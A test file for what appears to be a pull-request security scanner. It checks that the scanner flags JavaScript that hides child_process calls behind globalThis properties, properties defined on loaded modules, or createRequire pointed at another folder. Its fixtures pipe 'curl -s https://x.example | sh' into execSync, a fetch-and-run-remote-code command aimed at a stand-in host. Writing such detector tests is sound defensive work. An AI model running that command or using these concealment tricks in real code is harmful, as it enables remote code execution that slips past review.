import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, scanAnnotations } from "./pr";

// JavaScript that reaches child_process through the global object or a shared module filled by a call, or through a
// package.json `imports` entry naming a builtin, or a `require` made for another folder: each file ran its command
// under Node 20 (the `#cp` import as an ES module) and passed the built Action before.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

const CMD = "curl -s https://x.example | sh";

describe("values stored into the global object or a loaded module by a call fail the gate, where stored", () => {
  it("scan/shell-command: Object.defineProperty into globalThis and into require(\"path\"), called from another file", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/setup.js"), 'const cp = require("child_process");\nObject.defineProperty(globalThis, "run", { value: cp.execSync });\nObject.defineProperty(require("path"), "x", { value: cp.execSync });\n');
      writeFileSync(join(dir, "agent/use.js"), `require("./setup");\nrun("${CMD}");\nrequire("path").x("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands)).toEqual(["scan/shell-command agent/setup.js 2 51", "scan/shell-command agent/setup.js 3 54"]);
    expect(r.commands.find((c) => c.includes("line=2,") && c.includes("file=agent/setup.js"))).toContain("It is stored in `globalThis.run`, a property of the global object");
  });

  it("clean: plain values stored into the global object and a loaded module by the same calls pass", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/setup.js"), 'Object.assign(globalThis, { version: "1" });\nObject.defineProperty(globalThis, "debug", { value: false });\nObject.defineProperty(require("path"), "x", { value: (s) => s });\n');
      writeFileSync(join(dir, "agent/use.js"), 'require("./setup");\nconsole.log(version, debug, require("path").x("a"));\n');
    });
    const r = await gate(api, pr);
    expect(scanAnnotations(r.commands)).toEqual([]);
    expect(r.code).toBe(0);
  });
});

describe("a require made by createRequire for another folder loads from that folder (built Action)", () => {
  it("scan/shell-command, scan/dynamic-code: a payload loaded from sub/ by `createRequire(path.join(__dirname, \"sub/\"))`, and a require made for the working directory, fail", async () => {
    const pr = await pullRequest((dir) => {
      mkdirSync(join(dir, "agent/sub"), { recursive: true });
      writeFileSync(join(dir, "agent/sub/payload.txt"), `require("child_process").execSync("${CMD}");\n`);
      writeFileSync(join(dir, "agent/payload.txt"), "module.exports = 1;\n");
      writeFileSync(join(dir, "agent/loader.js"), 'const path = require("path");\nconst { createRequire } = require("module");\nconst r = createRequire(path.join(__dirname, "sub/"));\nr("./payload.txt");\n');
      writeFileSync(join(dir, "agent/cwd.js"), 'const { createRequire } = require("module");\ncreateRequire(process.cwd() + "/")("./payload.txt");\n');
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands)).toEqual(["scan/dynamic-code agent/cwd.js 2 1", "scan/shell-command agent/sub/payload.txt 1 1"]);
  });

  it("clean: a require made for sub/ loading a harmless file there, and one made for an absolute folder given a package name, pass", async () => {
    const pr = await pullRequest((dir) => {
      mkdirSync(join(dir, "agent/sub"), { recursive: true });
      writeFileSync(join(dir, "agent/sub/names.txt"), "module.exports = ['a'];\n");
      writeFileSync(join(dir, "agent/names.txt"), `require("child_process").execSync("${CMD}");\n`);
      writeFileSync(join(dir, "agent/loader.js"), 'const path = require("path");\nconst { createRequire } = require("module");\nconsole.log(createRequire(path.join(__dirname, "sub/"))("./names.txt"));\ncreateRequire("/srv/app/")("lodash");\n');
    });
    const r = await gate(api, pr);
    expect(scanAnnotations(r.commands)).toEqual([]);
    expect(r.code).toBe(0);
  });
});
